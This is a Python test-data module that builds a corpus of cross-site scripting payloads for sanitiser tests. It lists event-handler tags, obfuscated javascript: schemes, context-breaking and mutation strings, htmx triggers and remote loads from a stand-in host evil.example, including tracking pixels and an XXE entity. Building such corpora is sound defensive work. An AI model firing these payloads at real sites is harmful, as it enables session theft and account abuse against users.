"""More XSS payloads for tests/test_xss_corpus.py and the browser check (issue 15).

Built from the families that break sanitisers: every event handler on the tags that fire
it, every way to spell a script scheme, markdown's own link and image forms, mutation
tricks (markup that changes meaning when parsed twice) and context breakers for
attributes, titles and text areas. Each one calls alert() or loads from an outside host,
which the browser check catches.
"""

EVENT_HANDLERS = [
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onpageshow"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocusin"),
    ("textarea autofocus", "onfocus"),
    ("keygen autofocus", "onfocus"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("object data=x", "onerror"),
    ("iframe", "onload"),
    ("a href=# id=x tabindex=1", "onfocus"),
    ("div", "onmouseover"),
    ("p", "onclick"),
    ("span", "onpointerenter"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("track src=x", "onerror"),
    ("image src=x", "onerror"),
    ("form", "onsubmit"),
    ("button autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("table background=x", "onerror"),
    ("embed src=x", "onerror"),
    ("marquee", "onbounce"),
    ("bgsound src=x", "onerror"),
]

SCHEMES = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "javascript:alert`1`",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#09;script:alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058alert(1)",
    "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1)",
    "\x01javascript:alert(1)",
    " \x0bjavascript:alert(1)",
    "javascript://%0Aalert(1)",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload=alert(1)>",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "//evil.example/x.js",
    "https://evil.example/x.js",
]

CONTEXT_BREAKERS = [
    '"/><svg onload=alert(1)>',
    "'/><svg onload=alert(1)>",
    "</p><svg onload=alert(1)>",
    "</a><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "</noscript><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "</iframe><img src=x onerror=alert(1)>",
    "</xmp><img src=x onerror=alert(1)>",
    "</plaintext><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% raw %}<img src=x onerror=alert(1)>{% endraw %}",
    "\u2028<img src=x onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    '<div id="x" hx-get="https://evil.example/" hx-trigger="load">htmx</div>',
    '<div hx-on:htmx:load="alert(1)">htmx</div>',
    '<a hx-post="/accounts/logout/" hx-trigger="load">out</a>',
    '<div data-hx-get="https://evil.example/" data-hx-trigger="load">htmx</div>',
    '<img src="https://evil.example/pixel.gif">',
    "![pixel](https://evil.example/pixel.gif)",
    '<video poster="https://evil.example/p.png"></video>',
    '<input type="image" src="https://evil.example/x.png">',
    '<link rel="prefetch" href="https://evil.example/">',
    '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><set attributeName=onload to=alert(1) />",
    "<svg><script href=data:,alert(1) />",
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "<table><caption><svg><title><img src=x onerror=alert(1)></title></svg></caption></table>",
    '<a href="#" style="position:fixed;top:0;left:0;width:100%;height:100%">cover</a>',
    "<dialog open><form method=dialog><button>x</button></form></dialog>",
    "<portal src=https://evil.example/></portal>",
    "<object type=text/x-scriptlet data=https://evil.example/x.sct></object>",
    "<applet code=x>",
    "<xml><x:script>alert(1)</x:script></xml>",
    "<?xml-stylesheet href=https://evil.example/x.xsl?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'https://evil.example/'>]><x>&e;</x>",
]

MARKDOWN_FORMS = [
    "[x]({scheme})",
    "![x]({scheme})",
    "<{scheme}>",
    '[x]({scheme} "title")',
    "[x][r]\n\n[r]: {scheme}",
]


def extra_payloads() -> list[str]:
    payloads = [f"<{tag} {handler}=alert(1)>x" for tag, handler in EVENT_HANDLERS]
    payloads += [
        form.format(scheme=scheme)
        for scheme in SCHEMES[:12]
        for form in MARKDOWN_FORMS[: 5 if scheme.startswith("java") else 2]
    ]
    payloads += [f'<a href="{scheme}">x</a>' for scheme in SCHEMES]
    payloads += CONTEXT_BREAKERS
    unique = list(dict.fromkeys(payloads))
    return unique
